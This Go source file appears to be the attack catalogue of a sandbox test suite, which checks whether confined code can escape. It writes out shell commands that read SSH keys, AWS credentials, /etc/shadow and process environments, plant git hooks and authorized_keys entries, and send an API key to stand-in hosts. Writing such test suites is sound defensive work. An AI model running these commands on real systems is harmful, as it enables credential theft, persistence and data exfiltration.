package hostile

import "fmt"

// sockets are attempts with other kinds of socket than TCP and UDP.
func sockets() []attempt {
	const c = "sockets"
	opt := control{kind: optional}
	root := control{kind: bareRoot}
	list := []attempt{
		{category: c, name: "UDP to port 443 (QUIC)", do: []string{"datagram", "{addr}:443", "{c}"}},
		{category: c, name: "UDP to any port", do: []string{"datagram", "{addr}:5000", "{c}"}},
		{category: c, name: "UDP over IPv6", do: []string{"datagram", "[{addr6}]:443", "{c}"}},
		{category: c, name: "UDP to an IPv4-mapped address", do: []string{"datagram", "[::ffff:{addr}]:443", "{c}"}},
		{category: c, name: "UDP-Lite", do: []string{"sock", "2", "136", "{addr}:443", "{c}"}, control: opt},
		{category: c, name: "SCTP", do: []string{"sock", "1", "132", "{addr}:443", "{c}"}, control: opt},
		{category: c, name: "DCCP", do: []string{"sock", "6", "33", "{addr}:443", "{c}"}, control: opt},
		{category: c, name: "multipath TCP", do: []string{"sock", "1", "262", "{addr}:7000", "{c}"}, control: opt},
		{category: c, name: "data in the SYN (TCP Fast Open)", do: []string{"fastopen", "{addr}:7000", "{c}"}},
		{category: c, name: "a ping", do: []string{"ping", "{addr}", "{c}"}, control: root},
		{category: c, name: "a ping over IPv6", do: []string{"ping", "{addr6}", "{c}"}, control: root},
		{category: c, name: "a raw IP packet with a header of our own", do: []string{"ipraw", "{addr}", "{c}"}, control: root, arrived: byGot},
		{category: c, name: "an Ethernet frame on every link", do: []string{"packet", "{addr}", "{c}"}, control: root, arrived: byGot},
		{category: c, name: "the hypervisor's sockets", do: []string{"vsock"}, control: opt, arrived: byGot},
		{category: c, name: "a ring instead of system calls (io_uring)", do: []string{"iouring", "{addr}:7000", "{c}"}, control: opt, arrived: byGot},
		{category: c, name: "the system call numbers of x32", do: []string{"legacy"}, control: opt, arrived: byGot},
		{category: c, name: "connecting from an address that is not ours", do: []string{"bindfrom", "198.51.101.5:0", "{addr}:7000", "{c}"}, control: without("without a pen the answer goes elsewhere: nothing more than a packet would show")},
		{category: c, name: "a source route in the IP options", do: []string{"srcroute", "192.0.2.1", "{addr}:7000", "{c}"}, arrived: packetTo("192.0.2.1")},
		{category: c, name: "a link, an address and a route of our own", do: []string{"sh", "ip link add d0 type dummy && echo GOT link; ip addr add 10.9.8.7/32 dev lo && echo GOT address; ip route add 10.9.0.0/16 dev lo && echo GOT route; ip link set lo down && echo GOT down; nft flush ruleset && echo GOT rules; true"},
			arrived: byGot, control: without("as root it would take down the rig's own network")},
	}
	for _, f := range []struct {
		what           string
		family, t, num int
	}{
		{"kernel crypto (AF_ALG)", 38, 5, 0}, {"netfilter's netlink", 16, 3, 12}, {"audit's netlink", 16, 3, 9}, {"device events' netlink", 16, 3, 15}, {"generic netlink", 16, 3, 16},
		{"AF_XDP", 44, 3, 0}, {"TIPC", 30, 1, 0}, {"Bluetooth", 31, 3, 1}, {"CAN", 29, 3, 1}, {"key management (AF_KEY)", 15, 3, 2}, {"RDS", 21, 5, 0}, {"Qualcomm's router", 42, 2, 0}, {"kernel connection multiplexor", 41, 2, 0}, {"SMC", 43, 1, 0},
	} {
		list = append(list, attempt{category: c, name: "a socket of " + f.what, do: []string{"call", "41", fmt.Sprint(f.family), fmt.Sprint(f.t), fmt.Sprint(f.num)}, arrived: byGot, control: opt})
	}
	return list
}

// local are attempts over the host's unix sockets and descriptors.
func local() []attempt {
	const c = "unix sockets"
	return []attempt{
		{category: c, name: "an abstract socket of the host", do: []string{"say", "unix", "@penstock-hostile-{port}", "{c}"}},
		{category: c, name: "a daemon's socket in the home", do: []string{"say", "unix", "{home}/run/docker.sock", "{c}"}},
		{category: c, name: "a daemon's socket in the work directory", do: []string{"say", "unix", "{project}/daemon.sock", "{c}"}},
		{category: c, name: "that socket by another name", do: []string{"sh", "ln -s daemon.sock s1; ln daemon.sock s2; mv daemon.sock s3; for s in daemon.sock s1 s2 s3; do $T act say unix $PWD/$s {c}; done"}, control: without("without a pen it would move the socket of the attempt above")},
		{category: c, name: "a daemon's socket in /tmp", do: []string{"say", "unix", "{rig}/X5", "{c}"}},
		{category: c, name: "the usual places: docker, D-Bus, X11, ssh-agent, tmux, systemd", do: []string{"sh", `for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/dbus/system_bus_socket /run/user/$(id -u)/bus /tmp/.X11-unix/X0 /run/systemd/private /run/systemd/journal/stdout /tmp/tmux-$(id -u)/default "$SSH_AUTH_SOCK"; do test -S "$s" && echo GOT $s; done; true`}, arrived: byGot, control: without("which of them a machine has differs")},
	}
}

func processes() []attempt {
	const c = "processes"
	return []attempt{
		{category: c, name: "kill a process of the host", do: []string{"sh", "kill -9 {victim} && echo sent"}, arrived: byVictim},
		{category: c, name: "trace a process of the host, read its memory", do: []string{"ptrace", "{victim}"}, arrived: byVictim},
		{category: c, name: "take a descriptor from a process of the host", do: []string{"pidfd", "{victim}"}, arrived: byVictim},
		{category: c, name: "the environment of every process", do: []string{"sh", "cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a -e " + hostSecret + "en -e " + realValue[:16] + " | head -5"}, arrived: byLoot(hostSecret, realValue)},
		{category: c, name: "files through another process's root and directory", do: []string{"sh", "for p in /proc/[0-9]*; do cat $p/root{home}/.ssh/id_ed25519 $p/cwd/../.ssh/id_ed25519; done 2>/dev/null | head -3"}, arrived: byLoot(hostSecret)},
		{category: c, name: "files through the descriptors of pid 1", do: []string{"sh", "for f in /proc/1/fd/* /proc/1/map_files/*; do ls -l $f; cat $f/.ssh/id_ed25519 $f/../.ssh/id_ed25519 $f{home}/.ssh/id_ed25519; done 2>/dev/null | head -c 4000"}, arrived: byLoot(hostSecret), control: without("pid 1 of a machine has no such descriptor")},
		{category: c, name: "kernel settings: core_pattern, modprobe, sysrq, hotplug", do: []string{"sh", "for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/panic_on_oom /proc/sysrq-trigger /proc/sys/fs/binfmt_misc/register /sys/kernel/uevent_helper; do ( exec 3>>$f && echo GOT $f ) 2>/dev/null; done; true"}, arrived: byGot, control: control{kind: bareRoot}},
		{category: c, name: "the kernel's memory and log", do: []string{"sh", "for f in /proc/kcore /dev/mem /dev/kmsg /proc/kmsg /dev/sda /dev/vda /dev/kvm /dev/fuse /dev/net/tun; do ( exec 3<$f && echo GOT $f ) 2>/dev/null; done; true"}, arrived: byGot, control: control{kind: bareRoot}},
		{category: c, name: "become root, other namespaces, chroot, bpf, devices, set-id", do: []string{"raise"}, arrived: byGot},
		{category: c, name: "set-id programs of the system", do: []string{"sh", "cp /bin/sh ./sh-{c}; (sudo -n id -u || su -c 'id -u' </dev/null || newuidmap $$ 0 0 1 || pkexec id -u) 2>/dev/null | grep -x 0 && echo GOT root; true"}, arrived: byGot, control: without("needs a password on a sound machine")},
		{category: c, name: "mounts: bind, proc, tmpfs, overlay, remount", do: []string{"sh", "mkdir -p m-{c}; mount --bind / m-{c} && echo GOT bind; mount -t proc proc m-{c} && echo GOT proc; mount -t tmpfs t m-{c} && echo GOT tmpfs; mount -o remount,rw /usr && echo GOT remount; umount /etc && echo GOT umount; umount -l .git/hooks && echo GOT umount; true"}, arrived: byGot, control: without("as root it would change the machine's mounts")},
		{category: c, name: "pivot_root, move_mount, open_tree, fsopen, fsmount", do: []string{"sh", "$T act call 155 @. @. ; $T act call 429 -100 @. 0 @x 0; $T act call 428 -100 @/ 1; $T act call 430 @tmpfs 0; true"}, arrived: byGot, control: control{kind: bareRoot}},
		{category: c, name: "kernel keys, userfaultfd, perf, kexec, modules, swap", do: []string{"sh", "$T act call 250 0 -3 1; $T act call 323 1; $T act call 298 @x 0 -1 -1 0; $T act call 246 0 0 0 0; $T act call 175 @x 1 @x; $T act call 167 @x 0; true"}, arrived: byGot, control: control{kind: bareRoot}},
		{category: c, name: "clock, host name, reboot", do: []string{"sh", "(hostname owned-{c} && echo GOT name; date -s @1 && echo GOT clock) 2>/dev/null; test $(hostname) = owned-{c} && echo GOT name; true"}, arrived: byGot, control: without("as root it would set the machine's clock")},
		{category: c, name: "the host's network, by /proc", do: []string{"sh", "cat /proc/net/dev /proc/1/net/dev /proc/net/route /proc/net/fib_trie"}, arrived: byLoot(" h0:", "192.0.2.2")},
		{category: c, name: "the host's shared memory", do: []string{"sh", "$T act call 29 {shm} 0 0"}, arrived: byGot},
		{category: c, name: "open by handle, around the mounts", do: []string{"sh", "$T act call 303 -100 @/ @\\x80 @x 0; $T act call 304 -100 @x 0; true"}, arrived: byGot, control: without("needs a handle of the host's")},
	}
}

func files() []attempt {
	const c = "files"
	sh := func(script string) []string { return []string{"sh", script} }
	read := func(path string) attempt {
		return attempt{category: c, name: "read " + path, do: sh("cat '" + path + "' 2>&1 || cat '" + path + "'/* 2>&1"), arrived: byLoot(hostSecret)}
	}
	hook := "printf '#!/bin/sh\\n# {c}\\n'"
	return []attempt{
		read("{home}/.ssh/id_ed25519"), read("{home}/.aws/credentials"), read("{home}/.config/penstock/policy.yaml"), read("{home}/.local/state/penstock/planted"), read("{home}/.local/share/penstock/planted"), read("{home}/.bashrc"), read("{project}/../notes.txt"), read("{project}/link-notes"),
		{category: c, name: "read the authority's key, anywhere", do: sh("find / -xdev \\( -path /usr -o -path /proc -o -path /sys \\) -prune -o \\( -name '*.key' -o -name 'key*.pem' -o -name 'ca*.pem' \\) -size -64k -type f -exec cat {} + 2>/dev/null | grep -a -A3 'PRIVATE KEY' | head -5; cat {home}/.local/share/penstock/ca/* 2>/dev/null | grep -a 'PRIVATE KEY'; true"), arrived: byLoot("PRIVATE KEY"), control: control{kind: own}},
		{category: c, name: "read shadow and the machine's keys", do: sh("cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key 2>&1 | head -c 600"), arrived: byLoot("root:", "PRIVATE KEY"), control: control{kind: bareRoot}},
		{category: c, name: "write to the home", do: sh("echo {c} >> {home}/.bashrc; echo {c} > {home}/new; echo {c} > {home}/.ssh/authorized_keys"), arrived: byFile},
		{category: c, name: "write beside the work directory", do: sh("echo {c} > ../{c}; echo {c} > {project}/../notes2; mkdir ../dir-{c}"), arrived: byFile},
		{category: c, name: "write to the host's /tmp", do: sh("echo {c} > {rig}/{c}"), arrived: byFile},
		{category: c, name: "write to the system", do: sh("for d in /usr/local/bin /etc /opt /bin /etc/profile.d /etc/cron.d /var/spool/cron /root; do echo {c} > $d/{c} && echo GOT $d; done 2>/dev/null; true"), arrived: byGot, control: without("as root it would change the machine")},
		{category: c, name: "write through a link made by us", do: sh("ln -s {home}/.bashrc l-{c}; echo {c} >> l-{c}; ln -s {home} d-{c}; echo {c} > d-{c}/{c}; ln {home}/notes.txt h-{c}; echo {c} >> link-notes"), arrived: byFile},
		{category: c, name: "write a git hook", do: sh(hook + " > .git/hooks/pre-commit; " + hook + " > .git/hooks/post-checkout"), arrived: byFile},
		{category: c, name: "replace git's hooks by renaming", do: sh("mv .git/hooks .git/h2 2>/dev/null; mkdir -p .git/hooks; " + hook + " > .git/hooks/post-merge; mv .git .git2; mkdir -p .git/hooks; " + hook + " > .git/hooks/post-rewrite"), arrived: byFile, control: without("without a pen it takes the repository from the other attempts")},
		{category: c, name: "replace git's hooks by a link, a rename onto, a hard link", do: sh("mkdir x-{c}; " + hook + " > x-{c}/pre-push; rm -rf .git/hooks/*; ln -sfn ../x-{c} .git/hooks; mv -T x-{c} .git/hooks; ln x-{c}/pre-push .git/hooks/pre-push; rm -rf .git/hooks; ln -s ../x-{c} .git/hooks"), arrived: byFile, control: without("without a pen it takes the hooks from the attempts above")},
		{category: c, name: "git's configuration: hooksPath, alias, fsmonitor", do: sh("printf '[core]\\n\\tfsmonitor = {c}\\n\\thooksPath = {c}\\n' >> .git/config; git config core.pager {c}; cp .git/config .git/c2; echo {c} >> .git/c2; mv .git/c2 .git/config; echo {c} > .git/commondir; rm -f .git/config; true"), arrived: byFile},
		{category: c, name: "a policy for the next run", do: sh("printf 'version: 1\\n# {c}\\n' > .penstock.yaml; printf '# {c}' > .p2; mv .p2 .penstock.yaml; ln -s .p2-{c} .penstock.yaml"), arrived: byFile},
		{category: c, name: "an editor's and an agent's configuration", do: sh("for f in .vscode/tasks.json .idea/x.xml .husky/pre-commit .claude/settings.json; do mkdir -p $(dirname $f); echo {c} > $f; done; true"), arrived: byFile},
		{category: c, name: "a set-id program left in the work directory", do: sh("cp /bin/true suid-{c}; chmod u+s suid-{c}; chmod 6755 suid-{c}; cp -p suid-{c} s2-{c}; python3 -c \"import os; os.chmod('suid-{c}', 0o4755)\"; install -m 4755 /bin/true inst-{c}; true"), arrived: byFile},
		{category: c, name: "a device left in the work directory", do: sh("mknod dev-{c} b 8 0; mknod cdev-{c} c 1 1; true"), arrived: byFile, control: control{kind: bareRoot}},
		{category: c, name: "a link out of the audit and state directories", do: sh("mkdir -p {home}/.local/state/penstock/audit; echo {c} >> {home}/.local/state/penstock/planted; echo {c} > {home}/.local/state/penstock/{c}; for f in {home}/.local/state/penstock/audit/*; do echo {c} >> $f; done; true"), arrived: byFile},
	}
}

// keys are attempts on the real value behind a placeholder.
func keys() []attempt {
	const c = "secrets"
	sh := func(script string) []string { return []string{"sh", script} }
	return []attempt{
		{category: c, name: "the real value in the environment", do: sh("env; cat /proc/self/environ"), arrived: byLoot(realValue)},
		{category: c, name: "another variable of the host", do: sh("env"), arrived: byLoot(hostSecret)},
		{category: c, name: "in the declared header to another allowed host", do: sh(`$T act get GET https://good.example/{c} "X-Api-Key=$HOSTILE_KEY"`), arrived: byKey},
		{category: c, name: "in another header to the declared host", do: sh(`$T act get GET https://secret.example/{c} "Authorization=Bearer $HOSTILE_KEY"`), arrived: byKey},
		{category: c, name: "in the URL to another allowed host", do: sh(`$T act get GET "https://good.example/{c}?k=$HOSTILE_KEY"`), arrived: byKey},
		{category: c, name: "in the path to the declared host", do: sh(`$T act get GET "https://secret.example/{c}/$HOSTILE_KEY"`), arrived: byKey},
		{category: c, name: "in a body", do: sh(`$T act get POST https://good.example/{c} "body=$HOSTILE_KEY"`), arrived: byReal},
		{category: c, name: "in base64 (Basic)", do: sh(`$T act get GET https://good.example/{c} "Authorization=Basic $(printf 'u:%s' "$HOSTILE_KEY" | base64 -w0)"`), arrived: byKey},
		{category: c, name: "in clear text to the declared host", do: sh(`$T act get GET http://secret.example/{c} "X-Api-Key=$HOSTILE_KEY"`), arrived: byKey},
		{category: c, name: "to the declared host's name at another's address", do: sh(`$T act saytls {addr}:443 secret.example '' "GET /{c} HTTP/1.1\r\nHost: secret.example\r\nX-Api-Key: $HOSTILE_KEY\r\nConnection: close\r\n\r\n"`), arrived: byCanary},
		{category: c, name: "by raw TCP", do: sh(`$T act say tcp raw.example:7000 "{c} $HOSTILE_KEY"`), arrived: byReal},
		{category: c, name: "by a websocket handshake and its frames", do: sh(`$T act saytls good.example:443 good.example '' "GET /{c} HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nX-Api-Key: $HOSTILE_KEY\r\n\r\n" "$HOSTILE_KEY"`), arrived: byKey},
		{category: c, name: "reflected by the declared host", do: sh(`$T act get GET https://secret.example/echo/{c} "X-Api-Key=$HOSTILE_KEY"`), arrived: byLoot(realValue)},
		{category: c, name: "reflected, compressed", do: sh(`$T act get GET https://secret.example/echo-gzip/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue)},
		{category: c, name: "reflected, a byte at a time", do: sh(`$T act get GET https://secret.example/echo-bytes/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue[:12])},
		{category: c, name: "reflected in a trailer", do: sh(`$T act get GET https://secret.example/echo-trailer/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue)},
		{category: c, name: "reflected in a redirect", do: sh(`$T act get GET https://secret.example/echo-location/{c} "X-Api-Key=$HOSTILE_KEY" "Accept-Encoding=gzip"`), arrived: byLoot(realValue)},
		{category: c, name: "split over two headers of one name", do: sh(`$T act saytls secret.example:443 secret.example '' "GET /echo/{c} HTTP/1.1\r\nHost: secret.example\r\nX-Api-Key: $HOSTILE_KEY\r\nX-Api-Key: $HOSTILE_KEY\r\nConnection: close\r\n\r\n"`), arrived: byLoot(realValue)},
		{category: c, name: "TRACE to the declared host", do: sh(`$T act saytls secret.example:443 secret.example '' "TRACE /echo/{c} HTTP/1.1\r\nHost: secret.example\r\nX-Api-Key: $HOSTILE_KEY\r\nConnection: close\r\n\r\n"`), arrived: byLoot(realValue)},
		{category: c, name: "in the names of the run's own files and arguments", do: sh("cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/self/mountinfo 2>/dev/null; find / -xdev \\( -path /usr -o -path /proc -o -path /sys \\) -prune -o -newer /proc/self/status -type f 2>/dev/null | head -50; grep -ra " + realValue[:16] + " /run /etc/ssl /var/tmp 2>/dev/null | head"), arrived: byLoot(realValue), control: without("covered by the environment of every process")},
		{category: c, name: "in the audit, our output and our state", do: sh(`$T act get GET https://secret.example/{c} "X-Api-Key=$HOSTILE_KEY"`), arrived: byOurs, control: control{kind: own}},
	}
}
